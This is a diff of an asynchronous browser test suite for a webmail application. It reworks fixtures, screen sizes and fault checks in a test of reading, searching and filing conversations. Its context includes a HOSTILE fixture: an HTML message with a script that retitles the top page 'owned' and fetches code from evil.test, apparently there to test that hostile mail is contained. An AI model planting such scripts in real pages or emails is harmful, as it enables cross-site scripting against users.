@@ -3,7 +3,7 @@
 import functools
 from dataclasses import replace
 
-import pytest
+import pytest_asyncio
 
 from mailstead.model.address import Address
 from mailstead.model.directory import Alias
@@ -13,9 +13,9 @@ from mailstead.usecases.message_views import MessageQuery
 from mailstead.usecases.messages import Messages
 from mailstead.usecases.own_preferences import OwnPreferences
 from mailstead.wiring.house import ADMINISTRATOR
-from system.browser import ALICE, SIZES, open_site
+from system.browser import ALICE, IN_ONE_BROWSER, open_site
 
-pytestmark = pytest.mark.full
+pytestmark = IN_ONE_BROWSER
 
 HOSTILE = """<p>Hello <b>there</b></p>
 <script>top.document.title = "owned"; fetch("https://evil.test/script")</script>
@@ -45,9 +45,9 @@ def message(subject, body, *, sender="Bob <bob@else.test>", kind="text/plain", m
     return "\r\n".join(lines).replace("\r\n\n", "\r\n").encode()
 
 
-@pytest.fixture
-async def site(tmp_path):
-    async with open_site(tmp_path) as site:
+@pytest_asyncio.fixture(loop_scope="session")
+async def site(tmp_path, browser):
+    async with open_site(tmp_path, browser) as site:
         account = await site.house.storage.directory.find(ALICE)
         actor, messages = Actor(account.account_id, ALICE), Messages(site.house.mailboxes)
         site.put = lambda octets, folder="INBOX": messages.append(actor, folder, octets, [])
@@ -56,23 +56,22 @@ async def site(tmp_path):
         yield site
 
 
-@pytest.mark.parametrize("size", SIZES)
-async def test_conversations_are_read_found_and_put_away(site, size):
+async def test_conversations_are_read_found_and_put_away(site):
     await site.put(message("Lunch", "Shall we?", message_id="l1"))
     await site.put(message("Re: Lunch", "Yes, at noon by the river", sender="Carol <carol@else.test>", reply_to="l1"))
     await site.put(message("Minutes", "Of the meeting", kind="multipart"))
-    window = await site.window(size=size)
+    window = await site.window(size="phone")
     page = window.page
     await window.log_in(ALICE)
     await page.get_by_role("link", name="Mail", exact=True).click()
     assert await page.locator(".conversations li").count() == 2
-    assert await window.faults() == []
+    assert await window.faults_everywhere() == []
     assert "Bob, Carol (2)" in await page.locator(".conversations li", has_text="Lunch").inner_text()
     await page.get_by_role("searchbox").fill("river")
     await page.get_by_role("button", name="Find").click()
     await page.wait_for_url("**q=river**")
     await page.get_by_role("link", name="Lunch").first.click()
-    assert await window.faults() == []
+    assert await window.faults_everywhere() == []
     frames = page.frame_locator("iframe").last
     await frames.get_by_text("Yes, at noon by the river").wait_for()
     assert (await site.find("INBOX")).unseen_count == 1
